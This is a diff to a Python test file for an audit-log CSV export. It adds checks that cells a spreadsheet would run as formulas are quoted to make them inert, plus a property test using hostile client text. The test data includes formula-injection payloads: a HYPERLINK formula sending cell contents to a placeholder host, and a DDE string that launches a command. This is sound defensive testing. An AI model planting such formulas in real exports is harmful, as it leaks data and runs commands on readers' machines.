@@ -27,9 +27,17 @@ from audit.entrypoints.formats import (
 RecordOne = Callable[..., Event]
 
 
+def _defused(cell: Any) -> Any:
+    """A cell as a spreadsheet must see it: text it would run as a formula gets a '."""
+    if cell is None:
+        return None
+    text = str(cell)
+    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else cell
+
+
 def _stdlib_row(cells: list[Any]) -> str:
     buffer = io.StringIO()
-    csv.writer(buffer, lineterminator="\n").writerow(cells)
+    csv.writer(buffer).writerow([_defused(cell) for cell in cells])
     return buffer.getvalue()
 
 
@@ -51,7 +59,20 @@ def test_csv_row_writes_what_csv_writer_writes(row: list[Any]) -> None:
 
 @pytest.mark.parametrize(
     "row",
-    [[], [""], [None], ["", ""], ["a,b"], ['say "hi"'], ["two\nlines"], ["cr\ronly"], [" pad "]],
+    [
+        [],
+        [""],
+        [None],
+        ["", ""],
+        ["a,b"],
+        ['say "hi"'],
+        ["two\nlines"],
+        ["cr\ronly"],
+        ["\rleading cr"],
+        [" pad "],
+        ["=1+1"],
+        [-5],
+    ],
 )
 def test_csv_row_on_the_edge_cases(row: list[Any]) -> None:
     assert csv_row(row) == _stdlib_row(row)
@@ -108,7 +129,7 @@ def test_an_export_is_its_lines_in_pieces(events: list[EventJson], fmt: str, lin
 @pytest.mark.parametrize("fmt", list(EXPORT_FORMATS))
 def test_an_export_of_nothing(fmt: str) -> None:
     _, render = EXPORT_FORMATS[fmt]
-    expected = b"" if fmt == "ndjson" else b",".join(c.encode() for c in CSV_COLUMNS) + b"\n"
+    expected = b"" if fmt == "ndjson" else b",".join(c.encode() for c in CSV_COLUMNS) + b"\r\n"
     assert b"".join(render(iter([]))) == expected
 
 
@@ -130,3 +151,73 @@ def test_csv_reads_back_as_the_documents(stored: list[Event], events: list[Event
                 assert json.loads(cell) == value
             else:
                 assert cell == ("" if value is None else str(value))
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        (
+            '=HYPERLINK("http://x.example/?"&A1,"click")',
+            '\'=HYPERLINK("http://x.example/?"&A1,"click")',
+        ),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("a=1", "a=1"),
+        ("", ""),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_is_text(text: str, cell: str) -> None:
+    [row] = csv.reader(io.StringIO(csv_row([text]), newline=""))
+    assert row == [cell]
+
+
+# Text a hostile client may store: every character JSON and the event rules allow
+# (no NUL, no lone surrogate), heavy in what CSV and spreadsheets treat specially.
+hostile = st.text(
+    st.sampled_from(list("=+-@\t\r\n,\"' ;|!")) | st.characters(exclude_categories=["Cs"]),
+    max_size=12,
+).filter(lambda text: "\x00" not in text)
+
+
+def _document(seq: int, texts: list[str]) -> dict[str, Any]:
+    """An event document as the API writes it, hostile text in every free-text field."""
+    actor, target, description, value, ua = texts
+    return {
+        "id": f"e{seq}",
+        "seq": seq,
+        "tenant": "acme",
+        "action": "document.update",
+        "actor": {"id": actor, "type": "user", "name": actor},
+        "targets": [{"id": target, "type": None, "name": target}],
+        "outcome": "success",
+        "occurred_at": "2026-11-28T10:00:00.000000Z",
+        "received_at": "2026-11-28T10:00:00.000000Z",
+        "source": {"ip": None, "user_agent": ua},
+        "description": description,
+        "metadata": {value: value},
+        "prev_hash": "0" * 64,
+        "hash": "1" * 64,
+    }
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.lists(hostile, min_size=5, max_size=5), min_size=1, max_size=5))
+def test_csv_reads_back_one_row_per_event_whatever_the_text(texts: list[list[str]]) -> None:
+    docs = [_document(seq, t) for seq, t in enumerate(texts, start=1)]
+    events = [EventJson(d["seq"], orjson.dumps(d)) for d in docs]
+    data = b"".join(csv_lines(iter(events))).decode("utf-8")
+    rows = list(csv.reader(io.StringIO(data, newline="")))
+    assert len(rows) == len(docs) + 1
+    for row, doc in zip(rows[1:], docs, strict=True):
+        for column, cell in zip(CSV_COLUMNS, row, strict=True):
+            value = doc[column]
+            if isinstance(value, dict | list):
+                assert json.loads(cell) == value
+            elif value is None:
+                assert cell == ""
+            else:
+                text = str(value)
+                assert cell == ("'" + text if text[:1] in "=+-@\t\r" and text else text)
